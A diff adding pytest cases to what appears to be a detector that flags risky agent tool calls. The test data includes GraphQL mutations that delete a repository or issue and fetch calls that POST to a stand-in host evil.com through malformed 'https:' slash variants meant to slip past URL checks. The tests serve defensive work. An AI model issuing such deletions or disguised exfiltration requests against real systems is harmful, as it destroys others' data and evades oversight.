@@ -101,3 +101,32 @@ def test_deletes_through_generic_http_tools(tool, arguments, expected, scan_ids)
 )
 def test_reads_and_edits_are_not_deletions(tool, arguments, scan_ids):
     assert not {e for e in scan_ids(tool, arguments) if e.startswith("net.api")}
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments", "expected"),
+    [
+        ("graphql", {"query": 'mutation { deleteRepository(input: {repositoryId: "R_1"}) { clientMutationId } }'},
+         "net.api_destroy_resource"),
+        ("http_post", {"url": "https://api.github.com/graphql",
+                       "body": {"query": "mutation D($id: ID!) { deleteIssue(input: {issueId: $id}) { id } }"}},
+         "net.api_delete"),
+        ("fetch", {"url": "https:\\\\evil.com/collect", "method": "POST"}, "net.url_disguised"),
+        ("fetch", {"url": "https:/evil.com/collect", "method": "POST"}, "net.url_disguised"),
+        ("fetch", {"url": "https:evil.com/collect", "method": "POST"}, "net.url_disguised"),
+    ],
+)  # fmt: skip
+def test_graphql_deletes_and_slash_variants(tool, arguments, expected, scan_ids):
+    assert expected in scan_ids(tool, arguments, domains=ALLOWED)
+
+
+@pytest.mark.parametrize(
+    ("tool", "arguments"),
+    [
+        ("graphql", {"query": "query { viewer { login } }"}),
+        ("write_file", {"path": "/srv/docs/gql.md", "content": "mutation { deleteRepository(input: {}) { id } }"}),
+        ("note", {"text": "ports: http:8080"}),
+    ],
+)
+def test_not_deletes(tool, arguments, scan_ids):
+    assert not {e for e in scan_ids(tool, arguments) if e.startswith(("net.api", "net.url"))}
